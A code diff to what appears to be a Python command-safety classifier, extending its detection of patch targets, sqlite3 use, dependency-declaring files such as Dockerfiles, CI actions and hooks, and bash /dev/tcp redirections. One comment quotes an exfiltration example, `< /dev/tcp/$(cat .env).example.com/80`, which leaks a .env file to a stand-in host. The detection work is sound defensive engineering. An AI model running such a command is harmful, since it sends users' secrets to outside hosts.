@@ -2601,13 +2601,29 @@ def _classify_cmd(cmd: _Cmd, ctx: _Ctx) -> _V:
         v.targets.extend(patch.paths)
         v.hash = v.hash or patch.hash_intent
         v.dep = v.dep or patch.dependency_intent
-    elif cmd.stdin and (_cmd_name(cmd) == "patch" or [w.text for w in cmd.words[:2]] == [
-            "git", "apply"]):
-        # A diff given on stdin: what it adds is read like any patch.
-        patch = analyze_patch(cmd.stdin)
-        v.hash = v.hash or patch.hash_intent
-        v.dep = v.dep or patch.dependency_intent
+    elif _applies_a_patch(cmd) and v.mut == "write":
+        if cmd.stdin and _stdin_body(cmd) is not None:
+            # A diff given on stdin: the files it names are its targets, and
+            # what it adds is read like any patch.
+            patch = analyze_patch(cmd.stdin)
+            v.targets.extend(patch.paths)
+            v.hash = v.hash or patch.hash_intent
+            v.dep = v.dep or patch.dependency_intent
+        else:
+            # A patch file, or one piped in: the files it changes are not on the line.
+            v.opaque = True
+        if any(w.text.startswith(("-d", "--directory", "-C", "--work-tree", "--git-dir"))
+               for w in cmd.words[1:]):
+            v.opaque = True    # the paths are taken from another folder
     return v
+
+
+def _applies_a_patch(cmd: _Cmd) -> bool:
+    """`patch ...` or `git [options] apply ...`."""
+    name = _cmd_name(cmd)
+    if name == "patch":
+        return True
+    return name == "git" and "apply" in [w.text for w in cmd.words[1:6]]
 
 
 _STDIN_SHELLS = frozenset(("bash", "sh", "zsh", "dash", "ksh"))
@@ -2895,6 +2911,11 @@ def _manifest_by_name(cmd: _Cmd, program_writes: bool) -> bool:
 
 def _redir_verdict(op: str, target: Optional[_W]) -> _V:
     kind = op.lstrip("0123456789")
+    if kind == "<" and target is not None and not target.static \
+            and ("/dev/tcp/" in target.text or "/dev/udp/" in target.text):
+        # bash connects to the host it names: one built from an expansion
+        # carries data out (`< /dev/tcp/$(cat .env).example.com/80`).
+        return _unknown("network_data_unproven")
     if target is None or kind in ("<", "<<<"):
         return _an_read()
     if kind in ("<&", ">&"):
@@ -3501,6 +3522,15 @@ def _base64(name: str, args: List[_W], ctx: _Ctx) -> _V:
             if any(ch not in "dDiwbh0123456789" for ch in t[1:]):
                 return _unknown("shell_command_unproven", "option", name, t)
     return _an_read()
+
+
+def _sqlite(name: str, args: List[_W], ctx: _Ctx) -> _V:
+    """sqlite3 DB [SQL...] (and -cmd SQL): it may change the database, never
+    proven; its SQL is read for hashing (`select sha1(x)`) like any code."""
+    if _version_only(name, args, ctx).mut == "read":
+        return _an_read()
+    v = _unknown("shell_command_unproven", "unlisted", name)
+    return _code_intents(v, " ".join(w.text for w in args), "x.sql")
 
 
 def _lsof(name: str, args: List[_W], ctx: _Ctx) -> _V:
@@ -7985,7 +8015,7 @@ _PROGRAMS: Dict[str, Callable[[str, List[_W], _Ctx], _V]] = {
     "awk": _awk, "gawk": _awk, "mawk": _awk, "nawk": _awk,
     "sort": _SORT, "uniq": _UNIQ, "tree": _TREE, "xxd": _XXD, "file": _FILE,
     "nm": _NM, "diff3": _DIFF3,
-    "tee": _tee, "stat": _stat, "base64": _base64, "lsof": _lsof, "tput": _tput, "cd": _cd, "chdir": _cd, "pushd": _pushd, "popd": _popd, "dirs": _dirs,
+    "tee": _tee, "stat": _stat, "base64": _base64, "lsof": _lsof, "sqlite3": _sqlite, "tput": _tput, "cd": _cd, "chdir": _cd, "pushd": _pushd, "popd": _popd, "dirs": _dirs,
     "noglob": _w_command, "nocorrect": _w_command, "-": _w_command, "printf": _printf, "set": _set, "read": _read, "test": _test,
     "[": _test, "jobs": _jobs, "wait": _wait, "date": _DATE, "hostname": _hostname,
     "less": _pager, "more": _pager, "most": _pager, "man": _pager, "vi": _pager, "vim": _pager,
@@ -10728,6 +10758,12 @@ _MANIFEST_NAMES = {
     ".pnpmfile.cjs": "registry", "pip.conf": "registry", "pip.ini": "registry",
     ".pypirc": "registry", "bunfig.toml": "registry", ".condarc": "registry",
     "settings.xml": "registry",
+    # Deno's import maps; images, submodules, CI actions and hooks: each line
+    # that names one brings in code all the same (read by _line_declarations)
+    "import_map.json": "npm", "importmap.json": "npm",
+    "dockerfile": "image", "containerfile": "image", ".gitmodules": "submodule",
+    ".pre-commit-config.yaml": "hooks", ".pre-commit-config.yml": "hooks",
+    "action.yml": "actions", "action.yaml": "actions",
 }
 _MANIFEST_SUFFIXES = (
     ((".csproj", ".fsproj", ".vbproj", ".nuspec", ".props"), "csproj"),
@@ -10759,6 +10795,11 @@ def manifest_kind(path: Optional[str]) -> Optional[str]:
         return "requirements"
     if base.startswith(("environment", "requirements")) and base.endswith((".yml", ".yaml")):
         return "yaml"   # environment-dev.yml, requirements.yml (Ansible roles)
+    if base.startswith(("dockerfile.", "containerfile.")) or base.endswith(".dockerfile"):
+        return "image"
+    if parent == "workflows" and base.endswith((".yml", ".yaml")) \
+            and "/.github/workflows/" in "/" + norm.lower():
+        return "actions"
     return None
 
 
@@ -11707,6 +11748,98 @@ def _lock_change(old_text: Optional[str], new_text: str) -> bool:
     return bool(entries(new_text) - entries(old_text or ""))
 
 
+def _joined_lines(text: Optional[str]) -> List[str]:
+    """Lines with `\\`-continuations joined and blanks squeezed."""
+    out: List[str] = []
+    pending = ""
+    for line in (text or "").splitlines():
+        if line.rstrip().endswith("\\"):
+            pending += line.rstrip()[:-1] + " "
+            continue
+        out.append(" ".join((pending + line).split()))
+        pending = ""
+    if pending:
+        out.append(" ".join(pending.split()))
+    return [line for line in out if line]
+
+
+def _image_line(line: str) -> bool:
+    """A Dockerfile line that brings in code: a base image, a remote ADD,
+    a RUN whose command adds a package."""
+    word, _, rest = line.partition(" ")
+    word = word.upper()
+    if word == "FROM" or (word == "ADD" and "://" in rest) or (
+            word == "COPY" and "--from=" in rest):
+        return True
+    if word != "RUN":
+        return False
+    while rest.startswith("--"):     # RUN --mount=... --network=...
+        rest = rest.partition(" ")[2]
+    if rest.startswith("["):         # exec form: ["pip", "install", "x"]
+        try:
+            rest = " ".join(json.loads(rest))
+        except (ValueError, TypeError):
+            return True
+    return analyze_shell(rest).dependency_intent
+
+
+# A line that declares code from elsewhere, per kind: kind -> test of one
+# added line (already joined and squeezed).
+_LINE_DECLARATIONS: Dict[str, Callable[[str], bool]] = {
+    "image": _image_line,
+    "submodule": lambda line: line.lower().startswith(("url", "branch", "[submodule")),
+    "hooks": lambda line: line.lstrip("- ").startswith(("repo:", "rev:", "additional_dependencies")),
+    "actions": lambda line: line.lstrip("- ").startswith("uses:")
+    or line.lstrip("- ").startswith("image:"),
+}
+
+
+def _line_declarations(kind: str, old_text: Optional[str], new_text: str) -> bool:
+    """Whether the new text adds a line of this kind that the old did not have."""
+    test = _LINE_DECLARATIONS[kind]
+    before = set(_joined_lines(old_text))
+    return any(line not in before and test(line) for line in _joined_lines(new_text))
+
+
+# Code files that declare dependencies in the code itself: a Python script's
+# inline metadata (`# /// script` ... `dependencies = [...]`), and JS/TS
+# imports of a registry or a URL (`npm:x`, `jsr:@std/x`, `https://esm.sh/x`),
+# which Deno and Bun fetch.
+_URL_IMPORT = (r"""(?:\bfrom|\bimport|\brequire|\bimport\s*\()\s*\(?\s*['"`]"""
+               r"""((?:npm|jsr|https?):[^'"`\s]{1,2000})['"`]""")
+
+
+def _code_declares(path: Optional[str], old_text: Optional[str], new_text: str) -> bool:
+    if not isinstance(path, str):
+        return False
+    low = path.lower()
+    if low.endswith((".py", ".pyw")) and "# /// script" in new_text:
+        return _script_deps(new_text) - _script_deps(old_text or "") != set()
+    if low.endswith((".js", ".mjs", ".cjs", ".jsx", ".ts", ".mts", ".cts", ".tsx")) and (
+            "npm:" in new_text or "jsr:" in new_text or "http" in new_text):
+        rx = _an_rx("url-import", _URL_IMPORT)
+        return bool(set(rx.findall(new_text)) - set(rx.findall(old_text or "")))
+    return False
+
+
+def _script_deps(text: str) -> set:
+    """The requirement strings of a `# /// script` block (and its python version)."""
+    found: set = set()
+    inside = False
+    for line in text.splitlines():
+        stripped = line.strip()
+        if stripped == "# /// script":
+            inside = True
+        elif stripped == "# ///":
+            inside = False
+        elif inside:
+            body = stripped.lstrip("#").strip()
+            found.update(_an_rx("quoted", r"""['"]([^'"]+)['"]""").findall(body))
+            if body.startswith(("[[tool.uv.index]]", "url", "index")):
+                found.add(body)
+    return found
+
+
 def dependency_intent_in_change(path: Optional[str], old_text: Optional[str],
                                 new_text: Optional[str]) -> bool:
     """True when a manifest change adds a dependency or changes one.
@@ -11720,12 +11853,16 @@ def dependency_intent_in_change(path: Optional[str], old_text: Optional[str],
     dependency and reformatting do not.
     """
     kind = manifest_kind(path)
-    if kind is None or not isinstance(new_text, str):
+    if not isinstance(new_text, str):
         return False
+    if kind is None:
+        return _code_declares(path, old_text, new_text)
     if len(new_text) > _MAX_MANIFEST or (old_text and len(old_text) > _MAX_MANIFEST):
         return True   # too large to compare: assume the worst
     if kind == "lock":
         return _lock_change(old_text, new_text)
+    if kind in _LINE_DECLARATIONS:
+        return _line_declarations(kind, old_text, new_text)
 
     new = _manifest_keys(kind, new_text)
     old = _manifest_keys(kind, old_text) if isinstance(old_text, str) else {}
@@ -11839,12 +11976,37 @@ def analyze_patch(patch_text: Any, *, v4a: bool = False) -> PatchSummary:
                         summary.dependency_intent or other.dependency_intent)
 
 
+_GIT_PATCH_HEADERS = ("diff --git ", "rename from ", "rename to ", "copy from ", "copy to ")
+
+
+def _git_header_paths(line: str) -> List[str]:
+    """The paths one git patch header names."""
+    if line.startswith("diff --git "):
+        rest = line[len("diff --git "):].strip()
+        if rest.startswith("a/") and " b/" in rest:
+            old, _, new = rest[2:].partition(" b/")
+            return [p for p in dict.fromkeys((old.strip(), new.strip())) if p]
+        return [p for p in rest.split() if p]
+    return [line.split(" ", 2)[2].strip()] if line.count(" ") >= 2 else []
+
+
 def _analyze_patch_lines(lines: List[str], patch_text: str, v4a: bool) -> PatchSummary:
     files: List[_PatchFile] = []
     cur: Optional[_PatchFile] = None
     unified = "*** Begin Patch" not in patch_text and any(
         ln.startswith("+++ ") for ln in lines[:4000])
+    git_headers = "diff --git " in patch_text
     for k, line in enumerate(lines):
+        if git_headers and line.startswith(_GIT_PATCH_HEADERS):
+            # git's own headers name files no ---/+++ pair names: a rename or
+            # copy without changes, a mode change (`diff --git a/x b/x`).
+            named = _git_header_paths(line)
+            for path in named:
+                if path not in [f.path for f in files]:
+                    files.append(_PatchFile(path, "update"))
+            if named:
+                cur = files[-1]
+            continue
         if unified:
             if line.startswith("--- ") and k + 1 < len(lines) and lines[k + 1].startswith("+++ "):
                 continue
